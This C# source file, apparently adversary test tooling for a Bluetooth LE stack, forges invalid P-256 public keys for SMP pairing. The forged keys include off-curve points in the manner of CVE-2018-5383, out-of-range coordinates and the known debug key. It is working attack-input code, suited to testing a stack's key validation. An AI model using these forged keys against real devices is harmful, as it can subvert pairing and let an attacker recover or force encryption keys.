using System;
using System.Collections.Generic;
using System.Numerics;
using BleStack.Crypto;

namespace BleStack.Adversary;

/// <summary>Invalid public keys: points off the curve (CVE-2018-5383), coordinates out of range, and the debug key.</summary>
internal static class ForgedKey
{
    private static readonly BigInteger s_p =
        BigInteger.Pow(2, 256) - BigInteger.Pow(2, 224) + BigInteger.Pow(2, 192) + BigInteger.Pow(2, 96) - 1;
    private static readonly BigInteger s_b = new(
        Convert.FromHexString("5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B"),
        true,
        true
    );

    /// <summary>The ways to build a key that is not a point on the curve.</summary>
    public static IReadOnlyList<string> Tricks { get; } = ["y zero", "y plus one", "x and y zero", "x of p", "all ones"];

    /// <summary>The PDU with the key forged in one of the <see cref="Tricks"/>, or with the debug key for "debug".</summary>
    public static string Of(P256PublicKey key, string trick)
    {
        ArgumentNullException.ThrowIfNull(key);
        byte[] x = key.X.ToArray(), y = key.Y.ToArray();
        switch (trick)
        {
            case "y zero":
                Array.Clear(y);
                break;
            case "y plus one":
                y[31]++;
                break;
            case "x and y zero":
                Array.Clear(x);
                Array.Clear(y);
                break;
            // A point if p reduced to 0.
            case "x of p":
                (x, y) = (s_p.ToByteArray(true, true), BigInteger.ModPow(s_b, (s_p + 1) / 4, s_p).ToByteArray(true, true));
                break;
            case "all ones":
                Array.Fill(x, (byte)0xFF);
                Array.Fill(y, (byte)0xFF);
                break;
            default:
                (x, y) = (P256KeyPair.DebugPublicKey.X.ToArray(), P256KeyPair.DebugPublicKey.Y.ToArray());
                break;
        }

        return SmpAttacker.PublicKey(x, y);
    }
}
